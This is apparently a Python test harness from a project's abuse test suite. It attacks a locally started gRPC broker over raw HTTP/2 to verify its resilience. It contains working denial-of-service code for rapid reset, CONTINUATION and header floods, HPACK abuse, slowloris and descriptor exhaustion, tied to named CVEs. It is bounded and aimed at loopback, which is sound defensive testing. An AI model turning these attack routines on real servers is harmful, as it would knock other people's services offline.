#!/usr/bin/env python3
"""Abuse on the wire: attacks a real conveyord on loopback with raw HTTP/2.

Every phase starts a fresh conveyord (--listen=127.0.0.1:0, --port-file,
--metrics-addr=), warms it up, runs one attack and, while it runs, the
normal client abuse_probe (Submit + GetTask round trips on its own
connection, 200 a second at most); then runs the probe again to see how soon
the broker answers, and stops the broker with SIGTERM. The first phase has
no attack: its probe p99 is the baseline the bounds are set from.

  rapid_reset        HEADERS + RST_STREAM as fast as the socket takes them, 4
                     connections, half with a whole request (CVE-2023-44487)
  stream_flood       streams opened and held, never reset, on a connection that
                     never ACKs SETTINGS and on one that does
  huge_header        one header literal announced as 256 MiB, sent over
                     CONTINUATION frames (CVE-2023-33953)
  many_headers       a header block of small headers that never ends
                     (CVE-2023-33953: the per-frame metadata size check)
  hpack_abuse        table size updates past the limit, thousands of updates per
                     block, an integer padded with 1 MiB of zero bytes
  continuation_flood a header block of 1-byte CONTINUATION frames that never ends
  oversized_frames   frames longer than SETTINGS_MAX_FRAME_SIZE, gRPC messages
                     over the max receive size
  held_messages      messages under the limit sent as far as flow control allows
                     and held, on 1,000 streams (bounded by the memory quota)
  control_flood      PING, SETTINGS and WINDOW_UPDATE / RST_STREAM floods
  idle_connections   1,000 HTTP/2 connections (python3-h2 clients) opened and held
  slowloris          connections stalled in the preface, before SETTINGS, or in
                     an unfinished header block
  fd_exhaustion      more connections than the broker has descriptors
                     (CVE-2023-4785; its RLIMIT_NOFILE is set to 256)

Each attack runs in a child process (one core of Python at most); every loop
in it is bounded by a count and by a deadline. What each phase must show is
its `expect` (see PHASES): `holds` and `degrades` phases assert no probe
error, a probe p99 under a bound set from the baseline, and broker RSS under
its start + --rss-headroom-mib; `hurts` phases (no defence in gRPC 1.51)
assert only what holds: the broker stays up, stays under the phase's RSS
ceiling, answers normally again within --recover-s, and exits 0 on SIGTERM.
slowloris also asserts that the handshake timeout closes the stalled
connections, idle_connections that all 1,000 are served and kept. The driver
exits 1 naming each failure, 0 when every check held. Each phase's numbers
are printed as one JSON line ("RESULT {...}") and in a table at the end;
docs/security.md ("Abuse on the wire") quotes them.

Run by ctest (tests/abuse/CMakeLists.txt, label `abuse`, ~100 s):
  /usr/bin/python3 h2_abuse.py --conveyord=PATH --probe=PATH [--work-dir=DIR]
      [--only=rapid_reset,slowloris] [--broker-arg=--memory-quota-bytes=...]
      [--attack-arg=rapid_reset.streams=100000]
Needs Debian's python3-h2 (with hpack and hyperframe; scripts/setup installs
it).
"""

import argparse
import collections
import json
import multiprocessing
import os
import resource
import select
import selectors
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

try:
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
except ImportError as e:  # pragma: no cover - environment problem, said plainly
    sys.stderr.write(
        "h2_abuse: needs python3-h2 (apt-get install python3-h2; scripts/setup "
        "installs it) under Debian's /usr/bin/python3: %s\n" % e)
    sys.exit(2)

# ---------------------------------------------------------------- HTTP/2 bits

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_ENABLE_PUSH, SETTINGS_MAX_CONCURRENT_STREAMS, \
    SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE, \
    SETTINGS_MAX_HEADER_LIST_SIZE = range(1, 7)
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
               5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE",
               9: "CONTINUATION"}


def frame(ftype, flags, stream_id, payload=b"", length=None):
    """One frame; `length` overrides the length field (to lie about it)."""
    n = len(payload) if length is None else length
    return (struct.pack(">I", n)[1:] + bytes((ftype, flags)) +
            struct.pack(">I", stream_id & 0x7FFFFFFF) + payload)


def settings_frame(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


SETTINGS_ACK = frame(SETTINGS, ACK, 0)


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """RFC 7541 5.1 integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first_byte_flags | value,))
    out = bytearray((first_byte_flags | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    b = s if isinstance(s, bytes) else s.encode()
    return hpack_int(len(b), 7) + b


def hpack_literal(name, value):
    """Literal header field without indexing, new name: no table state at all,
    so a block made of these can be sent any number of times."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def request_block(port, path):
    return b"".join(hpack_literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", "127.0.0.1:%d" % port), ("content-type", "application/grpc"),
        ("te", "trailers")))


def grpc_message(body):
    return b"\x00" + struct.pack(">I", len(body)) + body


GET_TASK = "/conveyor.v1.TaskService/GetTask"
SUBMIT = "/conveyor.v1.TaskService/Submit"
# GetTaskRequest{id: "..."}: a cheap call that reaches the handler (NOT_FOUND).
GET_TASK_BODY = grpc_message(b"\x0a\x1a" + b"0" * 26)


# ------------------------------------------------------------ attack plumbing

class Conn:
    """A raw HTTP/2 client connection. Its reader thread answers the server's
    SETTINGS (unless ack_settings is False) and PINGs, counts what the server
    sends, tracks the connection send window and notes GOAWAY and EOF.

    The socket is non-blocking: a send waits for room at most until
    `deadline` (a server that stops reading stalls the attack, it does not
    hang it), and "closed" means the server closed or reset the connection."""

    def __init__(self, port, deadline, stop=None, ack_settings=True, settings=()):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5.0)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.deadline = deadline
        self.stop = stop
        self.lock = threading.Lock()
        self.pending = []  # ACKs the reader could not send while a writer held the lock
        self.ack_settings = ack_settings
        self.counts = {}
        self.goaway = None  # (error code, debug text)
        self.closed = threading.Event()
        self.stalled = False  # a send ran into the deadline
        self.server_settings = {}
        self.got_settings = threading.Event()
        self.window = 65535
        self.window_cv = threading.Condition()
        self.send(PREFACE + settings_frame(settings))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        """Sends all of `data` (frames stay whole); False if the connection
        closed or the deadline came first."""
        with self.lock:
            if self.pending:
                data = b"".join(self.pending) + data
                self.pending = []
            return self._send_locked(data)

    def _send_locked(self, data):
        view = memoryview(data)
        while view:
            if self.closed.is_set():
                return False
            try:
                n = self.sock.send(view)
                view = view[n:]
                continue
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                self._mark_closed()
                return False
            if time.monotonic() >= self.deadline or (self.stop and self.stop.is_set()):
                self.stalled = True
                return False
            try:
                select.select([], [self.sock], [], 0.1)
            except (OSError, ValueError):
                self._mark_closed()
                return False
        return True

    def _answer(self, data):
        if self.lock.acquire(blocking=False):
            try:
                self._send_locked(b"".join(self.pending) + data)
                self.pending = []
            finally:
                self.lock.release()
        else:
            self.pending.append(data)

    def take_window(self, n, deadline):
        """Waits for n bytes of connection flow-control window; False at the
        deadline or when the connection closes."""
        with self.window_cv:
            while self.window < n:
                if self.closed.is_set() or time.monotonic() >= deadline:
                    return False
                self.window_cv.wait(0.05)
            self.window -= n
            return True

    def close(self):
        self._mark_closed()
        self.reader.join(1.0)
        try:
            self.sock.close()
        except OSError:
            pass

    def _mark_closed(self):
        self.closed.set()
        with self.window_cv:
            self.window_cv.notify_all()

    def _read(self):
        buf = bytearray()
        while not self.closed.is_set():
            try:
                readable, _, _ = select.select([self.sock], [], [], 0.1)
                if not readable:
                    continue
                chunk = self.sock.recv(1 << 16)
            except (BlockingIOError, InterruptedError):
                continue
            except (OSError, ValueError):
                break
            if not chunk:
                break
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[0:3], "big")
                if len(buf) < 9 + n:
                    break
                ftype, flags = buf[3], buf[4]
                payload = bytes(buf[9:9 + n])
                del buf[:9 + n]
                self._on_frame(ftype, flags, payload)
        self._mark_closed()

    def _on_frame(self, ftype, flags, payload):
        name = FRAME_NAMES.get(ftype, str(ftype))
        self.counts[name] = self.counts.get(name, 0) + 1
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                self.server_settings[k] = v
            self.got_settings.set()
            if self.ack_settings:
                self._answer(SETTINGS_ACK)
        elif ftype == PING and not flags & ACK:
            self._answer(frame(PING, ACK, 0, payload))
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            with self.window_cv:
                # Stream-level updates are ignored: bodies here are tiny or
                # sent within the initial stream window.
                self.window += int.from_bytes(payload, "big") & 0x7FFFFFFF
                self.window_cv.notify_all()
        elif ftype == GOAWAY and len(payload) >= 8:
            code = int.from_bytes(payload[4:8], "big")
            self.goaway = (code, payload[8:200].decode("utf-8", "replace"))


class Tally:
    """What an attack did, summed over its connections."""

    def __init__(self):
        self.lock = threading.Lock()
        self.d = {"connections": 0, "server_closed": 0, "goaway_codes": {},
                  "goaway_text": "", "bytes_sent": 0, "streams": 0, "frames_from_server": {}}

    def add(self, key, n=1):
        with self.lock:
            self.d[key] = self.d.get(key, 0) + n

    def conn_done(self, c):
        with self.lock:
            if c.goaway is not None:
                codes = self.d["goaway_codes"]
                codes[str(c.goaway[0])] = codes.get(str(c.goaway[0]), 0) + 1
                if not self.d["goaway_text"]:
                    self.d["goaway_text"] = c.goaway[1]
            if c.closed.is_set():
                self.d["server_closed"] += 1
            if c.stalled:
                self.d["stalled"] = self.d.get("stalled", 0) + 1
            f = self.d["frames_from_server"]
            for k, v in c.counts.items():
                f[k] = f.get(k, 0) + v


def open_conn(port, tally, deadline, stop, **kw):
    c = Conn(port, deadline, stop, **kw)
    tally.add("connections")
    return c


def run_threads(n, target):
    threads = [threading.Thread(target=target, args=(i,), daemon=True) for i in range(n)]
    for t in threads:
        t.start()
    return threads


def join_all(threads, deadline):
    for t in threads:
        t.join(max(0.0, deadline - time.monotonic()) + 2.0)


def reconnecting(port, tally, deadline, stop, body, max_conns, **kw):
    """Runs body(conn) on a fresh connection each time the server closes the
    last one, up to max_conns connections, until the deadline or stop."""
    for _ in range(max_conns):
        if stop.is_set() or time.monotonic() >= deadline:
            return
        try:
            c = open_conn(port, tally, deadline, stop, **kw)
        except OSError:
            tally.add("connect_errors")
            time.sleep(0.05)
            continue
        try:
            body(c)
        finally:
            c.closed.wait(0.05)
            tally.conn_done(c)
            c.close()


# ------------------------------------------------------------------- attacks
# Each attack(port, deadline, stop, ready, tally): sets `ready` once it is in
# full swing, returns by `deadline` (or soon after `stop`).


def attack_rapid_reset(port, deadline, stop, ready, tally, streams=6000, conns=4):
    """CVE-2023-44487: open a stream and cancel it at once, as fast as the
    socket takes it, `streams` streams on each of `conns` connections (all
    start together). Half the connections send HEADERS + RST_STREAM; the other
    half HEADERS + a whole GetTask request + RST_STREAM, so streams may reach
    a handler. Batches of 200 streams per write."""
    started = threading.Barrier(conns + 1, timeout=10)

    def worker(i):
        with_body = i % 2 == 1
        block = request_block(port, GET_TASK)
        left = [streams]

        def body(c):
            if left[0] == streams:
                try:
                    started.wait()
                except threading.BrokenBarrierError:
                    pass
            sid = 1
            while (left[0] > 0 and not stop.is_set() and time.monotonic() < deadline and
                   sid < 2**31 - 2000):
                n = min(200, left[0])
                parts = []
                for _ in range(n):
                    parts.append(frame(HEADERS, END_HEADERS, sid, block))
                    if with_body:
                        parts.append(frame(DATA, END_STREAM, sid, GET_TASK_BODY))
                    parts.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
                    sid += 2
                data = b"".join(parts)
                if with_body and not c.take_window(n * len(GET_TASK_BODY), deadline):
                    return
                if not c.send(data):
                    return
                left[0] -= n
                tally.add("bytes_sent", len(data))
                tally.add("streams", n)
            if left[0] == 0:
                with tally.lock:  # when the last connection had sent all
                    tally.d["sent_all_s"] = max(tally.d.get("sent_all_s", 0),
                                                round(time.monotonic() - t0, 2))
                # Keep the connection until the phase ends, as an attacker
                # waiting for more would.
                while not stop.is_set() and time.monotonic() < deadline and not c.closed.is_set():
                    time.sleep(0.05)

        reconnecting(port, tally, deadline, stop, body, max_conns=50)

    t0 = time.monotonic()
    threads = run_threads(conns, worker)
    try:
        started.wait()
    except threading.BrokenBarrierError:
        pass
    t0 = time.monotonic()
    ready.set()
    join_all(threads, deadline)


def attack_stream_flood(port, deadline, stop, ready, tally, streams=20000):
    """Streams opened and held, never reset, each a Submit request that never
    ends (no END_STREAM), `streams` on each of two connections: one that
    never ACKs the server's SETTINGS, one that does. gRPC 1.51 applies its
    MAX_CONCURRENT_STREAMS only once the client ACKed the SETTINGS that
    announced it. No reconnects."""
    block = request_block(port, SUBMIT)

    def worker(i):
        kind = "ack" if i == 1 else "no_ack"

        def body(c):
            sid, sent = 1, 0
            while (not stop.is_set() and time.monotonic() < deadline and sent < streams and
                   not c.closed.is_set()):
                if i == 1 and not c.got_settings.wait(2):
                    return
                n = min(100, streams - sent)
                data = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * k, block)
                                for k in range(n))
                sid += 2 * n
                if not c.send(data):
                    break
                sent += n
                tally.add("bytes_sent", len(data))
                tally.add("streams", n)
            # Hold the streams open until the end.
            while not stop.is_set() and time.monotonic() < deadline and not c.closed.is_set():
                time.sleep(0.05)
            with tally.lock:
                tally.d[kind] = {"streams_sent": sent,
                                 "refused": c.counts.get("RST_STREAM", 0),
                                 "server_closed": c.closed.is_set()}

        reconnecting(port, tally, deadline, stop, body, max_conns=1, ack_settings=i == 1)

    threads = run_threads(2, worker)
    time.sleep(0.3)
    ready.set()
    join_all(threads, deadline)


def attack_huge_header(port, deadline, stop, ready, tally, conns=2, mib_per_conn=8):
    """CVE-2023-33953: one header literal announced as 256 MiB, of which
    `mib_per_conn` MiB are sent in 16 KiB CONTINUATION frames, on each of
    `conns` connections (no reconnects), then held. gRPC 1.51 buffers the
    string before checking it against the metadata limit, and its parsing
    cost grows with the square of the bytes buffered (docs/security.md)."""
    declared = 256 << 20

    def worker(i):
        def body(c):
            head = (request_block(port, GET_TASK) + b"\x00" + hpack_str("x-huge") +
                    hpack_int(declared, 7))
            if not c.send(frame(HEADERS, 0, 1, head)):
                return
            chunk = frame(CONTINUATION, 0, 1, b"a" * 16384) * 16
            sent = 0
            while (not stop.is_set() and time.monotonic() < deadline and
                   sent < mib_per_conn << 20):
                if not c.send(chunk):
                    return
                sent += 16 * 16384
                tally.add("bytes_sent", len(chunk))
            tally.add("streams")
            while not stop.is_set() and time.monotonic() < deadline and not c.closed.is_set():
                time.sleep(0.05)

        reconnecting(port, tally, deadline, stop, body, max_conns=1)

    threads = run_threads(conns, worker)
    time.sleep(0.2)
    ready.set()
    join_all(threads, deadline)


def attack_many_headers(port, deadline, stop, ready, tally, mib_per_conn=16, conns=12):
    """CVE-2023-33953: a header block that never ends, each CONTINUATION frame
    full of small headers (x-a: 1). 1.51 checked the metadata size limit per
    frame, not per block. At most `mib_per_conn` MiB on each of `conns`
    connections, two at a time."""
    small = hpack_literal("x-a", "1") * 1800  # ~14 KiB per frame

    def worker(i):
        def body(c):
            if not c.send(frame(HEADERS, 0, 1, request_block(port, GET_TASK))):
                return
            sent = 0
            data = frame(CONTINUATION, 0, 1, small) * 8
            while (not stop.is_set() and time.monotonic() < deadline and
                   sent < mib_per_conn << 20):
                if not c.send(data):
                    return
                sent += len(data)
                tally.add("bytes_sent", len(data))
            tally.add("streams")
            while not stop.is_set() and time.monotonic() < deadline and not c.closed.is_set():
                time.sleep(0.05)

        reconnecting(port, tally, deadline, stop, body, max_conns=conns // 2)

    threads = run_threads(2, worker)
    time.sleep(0.2)
    ready.set()
    join_all(threads, deadline)


def attack_hpack_abuse(port, deadline, stop, ready, tally):
    """HPACK abuse on three connections at once (each reconnecting when the
    server closes it): (0) a dynamic table size update to 2^32-1, beyond
    SETTINGS_HEADER_TABLE_SIZE; (1) blocks of 4,000 table size updates
    (0, 4096, 0, ...) followed by a request, many streams; (2) an indexed
    field whose integer is padded with 1 MiB of zero continuation bytes, in
    CONTINUATION frames."""
    block = request_block(port, GET_TASK)

    def too_big(c):
        upd = hpack_int(2**32 - 1, 5, 0x20)
        sid = 1
        while not stop.is_set() and time.monotonic() < deadline and sid < 20001:
            if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, upd + block)):
                return
            tally.add("streams")
            sid += 2

    def many_updates(c):
        upd = (hpack_int(0, 5, 0x20) + hpack_int(4096, 5, 0x20)) * 2000
        sid = 1
        while not stop.is_set() and time.monotonic() < deadline and sid < 20001:
            if not c.send(frame(HEADERS, END_HEADERS, sid, upd + block) +
                          frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))):
                return
            tally.add("streams")
            tally.add("bytes_sent", len(upd) + len(block))
            sid += 2

    def padded_varint(c):
        # Indexed header field, index 127+ encoded as 0xff then 1 MiB of 0x80
        # (adds zero each) before its last byte.
        if not c.send(frame(HEADERS, 0, 1, block + b"\xff")):
            return
        pad = frame(CONTINUATION, 0, 1, b"\x80" * 16384)
        sent = 0
        while not stop.is_set() and time.monotonic() < deadline and sent < 1 << 20:
            if not c.send(pad * 8):
                return
            sent += 8 * 16384
            tally.add("bytes_sent", 8 * len(pad))
        c.send(frame(CONTINUATION, END_HEADERS, 1, b"\x01"))
        tally.add("streams")
        while not stop.is_set() and time.monotonic() < deadline and not c.closed.is_set():
            time.sleep(0.05)

    kinds = [too_big, many_updates, padded_varint]

    def worker(i):
        reconnecting(port, tally, deadline, stop, kinds[i], max_conns=2000)

    threads = run_threads(len(kinds), worker)
    time.sleep(0.2)
    ready.set()
    join_all(threads, deadline)


def attack_continuation_flood(port, deadline, stop, ready, tally):
    """A header block that never ends: CONTINUATION frames of one byte (a
    harmless indexed header, :method GET... repeated), as fast as possible,
    2 connections, at most 4 million frames each."""

    def worker(i):
        def body(c):
            if not c.send(frame(HEADERS, 0, 1, request_block(port, GET_TASK))):
                return
            one = frame(CONTINUATION, 0, 1, b"\x86")  # indexed: :scheme http
            data = one * 4096
            frames = 0
            while (not stop.is_set() and time.monotonic() < deadline and
                   frames < 4_000_000):
                if not c.send(data):
                    return
                frames += 4096
                tally.add("bytes_sent", len(data))
                tally.add("frames", 4096)
            tally.add("streams")

        reconnecting(port, tally, deadline, stop, body, max_conns=50)

    threads = run_threads(2, worker)
    time.sleep(0.2)
    ready.set()
    join_all(threads, deadline)


def attack_oversized_frames(port, deadline, stop, ready, tally):
    """(0) DATA and HEADERS frames longer than SETTINGS_MAX_FRAME_SIZE (gRPC
    announces about 4 MiB): announced at 16 MiB - 1 with only 64 KiB sent, or
    sent whole at the limit + 1; a new connection for each, as the server
    closes them; (1) gRPC messages whose length prefix (1 GiB) is over the
    max receive message size, a new stream for each, 4 KiB sent."""
    block = request_block(port, SUBMIT)

    def oversized(c):
        if not c.got_settings.wait(2):
            return
        limit = c.server_settings.get(SETTINGS_MAX_FRAME_SIZE, 16384)
        kind = tally.d.get("connections", 0) % 3
        if kind == 0:    # DATA announced at 16 MiB - 1, only 64 KiB sent
            c.send(frame(HEADERS, END_HEADERS, 1, block) +
                   frame(DATA, 0, 1, b"", length=(1 << 24) - 1) + b"z" * 65536)
        elif kind == 1:  # HEADERS announced at 16 MiB - 1, only 64 KiB sent
            c.send(frame(HEADERS, END_HEADERS, 1, b"", length=(1 << 24) - 1) + b"h" * 65536)
        else:            # just over the limit
            c.send(frame(HEADERS, END_HEADERS, 1, block) +
                   frame(DATA, 0, 1, b"y" * (limit + 1)))
        tally.add("streams")
        tally.add("oversized_frames")
        c.closed.wait(min(2.0, max(0.0, deadline - time.monotonic())))

    def too_long_message(c):
        sid = 1
        prefix = b"\x00" + struct.pack(">I", 1 << 30)
        while not stop.is_set() and time.monotonic() < deadline and sid < 40001:
            if not c.take_window(4096 + 5, deadline):
                return
            if not c.send(frame(HEADERS, END_HEADERS, sid, block) +
                          frame(DATA, 0, sid, prefix + b"m" * 4096)):
                return
            tally.add("streams")
            tally.add("bytes_sent", 4096 + 5)
            sid += 2

    kinds = [oversized, too_long_message]

    def worker(i):
        reconnecting(port, tally, deadline, stop, kinds[i], max_conns=3000 if i == 0 else 20)

    threads = run_threads(len(kinds), worker)
    time.sleep(0.2)
    ready.set()
    join_all(threads, deadline)


def attack_held_messages(port, deadline, stop, ready, tally, streams=1000,
                         bytes_per_stream=4 << 20):
    """Messages announced at 8 MiB (under the 9 MiB limit), of which only what
    the stream's flow-control window allows is sent (at most
    `bytes_per_stream`), then held, on up to `streams` streams of one
    connection (reconnecting if closed). gRPC 1.51 buffers each up to the
    stream window (4 MiB) until the message completes; the memory quota is
    what bounds the total."""
    block = request_block(port, SUBMIT)
    prefix = b"\x00" + struct.pack(">I", 8 << 20)

    def body(c):
        if not c.got_settings.wait(2):
            return
        n = min(bytes_per_stream, c.server_settings.get(SETTINGS_INITIAL_WINDOW_SIZE, 65535))
        payload = prefix + b"q" * (n - 5)
        frames = b"".join(frame(DATA, 0, 0, payload[off:off + 16384])
                          for off in range(0, len(payload), 16384))
        sid = 1
        while (tally.d.get("streams", 0) < streams and not stop.is_set() and
               time.monotonic() < deadline):
            if not c.take_window(n, deadline):
                break
            # The same DATA frames for every stream, with its id patched in.
            data = bytearray(frames)
            for off in range(0, len(data), 9 + 16384):
                struct.pack_into(">I", data, off + 5, sid)
            if not c.send(frame(HEADERS, END_HEADERS, sid, block) + bytes(data)):
                break
            tally.add("streams")
            tally.add("bytes_sent", n)
            sid += 2
        while not stop.is_set() and time.monotonic() < deadline and not c.closed.is_set():
            time.sleep(0.05)

    def worker(i):
        reconnecting(port, tally, deadline, stop, body, max_conns=20)

    threads = run_threads(1, worker)
    time.sleep(0.2)
    ready.set()
    join_all(threads, deadline)


def attack_control_flood(port, deadline, stop, ready, tally):
    """Control frames the server must answer or process: (0) PINGs, (1)
    SETTINGS (each needs an ACK), (2) WINDOW_UPDATE on stream 0 and RST_STREAM
    on idle streams; batches of 1,000, reconnecting when closed."""
    batches = [
        frame(PING, 0, 0, b"\x00" * 8) * 1000,
        settings_frame([(SETTINGS_INITIAL_WINDOW_SIZE, 65535)]) * 1000,
        (frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500 +
         b"".join(frame(RST_STREAM, 0, 2 * k + 1, struct.pack(">I", CANCEL))
                  for k in range(500))),
    ]

    def worker(i):
        def body(c):
            n = 0
            while not stop.is_set() and time.monotonic() < deadline and n < 20000:
                if not c.send(batches[i]):
                    return
                n += 1
                tally.add("frames", 1000)
                tally.add("bytes_sent", len(batches[i]))

        reconnecting(port, tally, deadline, stop, body, max_conns=500)

    threads = run_threads(len(batches), worker)
    time.sleep(0.2)
    ready.set()
    join_all(threads, deadline)


class MassConns:
    """Many connections served by one selector loop. With `use_h2` each is a
    well-behaved client of the h2 library (preface, SETTINGS, ACKs, PING
    answers) that then sends nothing; otherwise each sends the raw bytes
    `first` and, if `ack`, answers SETTINGS and PINGs. Notes which got the
    server's SETTINGS and when the server closed each."""

    def __init__(self, port, n, tally, use_h2=False, first=b"", ack=False):
        self.sel = selectors.DefaultSelector()
        self.conns = {}
        self.opened = time.monotonic()
        for _ in range(n):
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=5)
            except OSError:
                tally.add("connect_errors")
                continue
            tally.add("connections")
            st = {"buf": bytearray(), "settings": False, "closed_at": None, "ack": ack,
                  "h2": None}
            if use_h2:
                h = h2.connection.H2Connection(
                    config=h2.config.H2Configuration(client_side=True))
                h.initiate_connection()
                st["h2"] = h
                s.sendall(h.data_to_send())
            elif first:
                s.sendall(first)
            s.setblocking(False)
            self.conns[s] = st
            self.sel.register(s, selectors.EVENT_READ, st)

    def pump(self, until, stop=None):
        """Serves the connections until `until` (or stop, or all closed)."""
        while time.monotonic() < until and (stop is None or not stop.is_set()):
            if all(st["closed_at"] for st in self.conns.values()):
                return
            for key, _ in self.sel.select(timeout=0.1):
                s, st = key.fileobj, key.data
                try:
                    chunk = s.recv(1 << 16)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    chunk = b""
                if not chunk:
                    st["closed_at"] = time.monotonic()
                    self.sel.unregister(s)
                    continue
                if st["h2"] is not None:
                    self._on_h2(s, st, chunk)
                else:
                    self._on_raw(s, st, chunk)

    def _on_h2(self, s, st, chunk):
        h = st["h2"]
        try:
            events = h.receive_data(chunk)
        except h2.exceptions.ProtocolError:
            events = []
        for ev in events:
            if isinstance(ev, h2.events.RemoteSettingsChanged):
                st["settings"] = True
        out = h.data_to_send()
        if out:
            self._send(s, out)

    def _on_raw(self, s, st, chunk):
        buf = st["buf"]
        buf += chunk
        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[0:3], "big"):
            n = int.from_bytes(buf[0:3], "big")
            ftype, flags, payload = buf[3], buf[4], bytes(buf[9:9 + n])
            del buf[:9 + n]
            if ftype == SETTINGS and not flags & ACK:
                st["settings"] = True
                if st["ack"]:
                    self._send(s, SETTINGS_ACK)
            elif ftype == PING and not flags & ACK and st["ack"]:
                self._send(s, frame(PING, ACK, 0, payload))

    @staticmethod
    def _send(s, data):
        try:
            s.setblocking(True)
            s.settimeout(2)
            s.sendall(data)
        except OSError:
            pass
        finally:
            s.setblocking(False)

    def counts(self):
        closed = [st["closed_at"] - self.opened for st in self.conns.values() if st["closed_at"]]
        return {"open": sum(1 for st in self.conns.values() if not st["closed_at"]),
                "closed": len(closed),
                "got_settings": sum(1 for st in self.conns.values() if st["settings"]),
                "closed_after_s_min": round(min(closed), 2) if closed else None,
                "closed_after_s_max": round(max(closed), 2) if closed else None}

    def close(self):
        for s in self.conns:
            try:
                s.close()
            except OSError:
                pass
        self.sel.close()


def attack_idle_connections(port, deadline, stop, ready, tally, n=1000):
    """CVE-2023-4785 style: N HTTP/2 connections (preface, SETTINGS, ACK)
    opened as fast as possible and held idle until the end."""
    t0 = time.monotonic()
    pool = MassConns(port, n, tally, use_h2=True)
    # Wait (bounded) until every connection got the server's SETTINGS.
    end = min(deadline, time.monotonic() + 10.0)
    while time.monotonic() < end:
        pool.pump(time.monotonic() + 0.2)
        c = pool.counts()
        if c["got_settings"] + c["closed"] >= len(pool.conns):
            break
    tally.d["open_seconds"] = round(time.monotonic() - t0, 2)
    tally.d["after_open"] = pool.counts()
    ready.set()
    pool.pump(deadline, stop)
    tally.d["at_end"] = pool.counts()
    pool.close()


def attack_fd_exhaustion(port, deadline, stop, ready, tally, n=320):
    """CVE-2023-4785: more connections than the broker has descriptors (the
    driver starts this phase's broker with RLIMIT_NOFILE 256), held until
    the end of the probe, then closed. gRPC 1.51's listener stops accepting
    for good after accept4 fails with EMFILE."""
    pool = MassConns(port, n, tally, use_h2=True)
    pool.pump(min(deadline, time.monotonic() + 2.0))
    tally.d["held"] = pool.counts()
    ready.set()
    pool.pump(deadline, stop)
    pool.close()


def attack_slowloris(port, deadline, stop, ready, tally):
    """Connections that stall: 200 send half of the preface, 100 send nothing,
    100 send the whole preface but no SETTINGS frame, 100 complete the
    handshake then send an unfinished header block. The first three kinds
    should be closed by the server's handshake timeout."""
    groups = {
        "half_preface": MassConns(port, 200, tally, first=PREFACE[:12]),
        "silent": MassConns(port, 100, tally),
        "preface_no_settings": MassConns(port, 100, tally, first=PREFACE),
        # The server's SETTINGS is ACKed up front: once the header block is
        # open, no other frame may come before its CONTINUATION.
        "stalled_headers": MassConns(
            port, 100, tally, first=PREFACE + settings_frame() + SETTINGS_ACK +
            frame(HEADERS, 0, 1, request_block(port, GET_TASK))),
    }
    ready.set()
    while time.monotonic() < deadline and not stop.is_set():
        for g in groups.values():
            g.pump(time.monotonic() + 0.05)
    for name, g in groups.items():
        tally.d[name] = g.counts()
        g.close()


ATTACKS = {
    "rapid_reset": attack_rapid_reset,
    "stream_flood": attack_stream_flood,
    "huge_header": attack_huge_header,
    "many_headers": attack_many_headers,
    "hpack_abuse": attack_hpack_abuse,
    "continuation_flood": attack_continuation_flood,
    "oversized_frames": attack_oversized_frames,
    "held_messages": attack_held_messages,
    "control_flood": attack_control_flood,
    "idle_connections": attack_idle_connections,
    "slowloris": attack_slowloris,
    "fd_exhaustion": attack_fd_exhaustion,
}


def attack_main(name, port, seconds, stop, ready, out_q, kwargs):
    """Child process entry: runs one attack, bounded by `seconds`."""
    tally = Tally()
    deadline = time.monotonic() + seconds
    t0 = time.monotonic()
    try:
        ATTACKS[name](port, deadline, stop, ready, tally, **kwargs)
    except Exception as e:  # reported, and judged by the driver
        tally.d["exception"] = "%s: %s" % (type(e).__name__, e)
    ready.set()
    tally.d["seconds"] = round(time.monotonic() - t0, 2)
    out_q.put(tally.d)


# ------------------------------------------------------------------- driver

def proc_status(pid):
    """VmRSS, VmHWM (KiB) and Threads of a process, or None once it is gone."""
    try:
        with open("/proc/%d/status" % pid) as f:
            text = f.read()
    except OSError:
        return None
    out = {}
    for line in text.splitlines():
        k, _, v = line.partition(":")
        if k in ("VmRSS", "VmHWM", "Threads"):
            out[k] = int(v.split()[0])
    return out


def cpu_seconds(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            fields = f.read().rsplit(")", 1)[1].split()
    except OSError:
        return 0.0
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def fd_count(pid):
    try:
        return len(os.listdir("/proc/%d/fd" % pid))
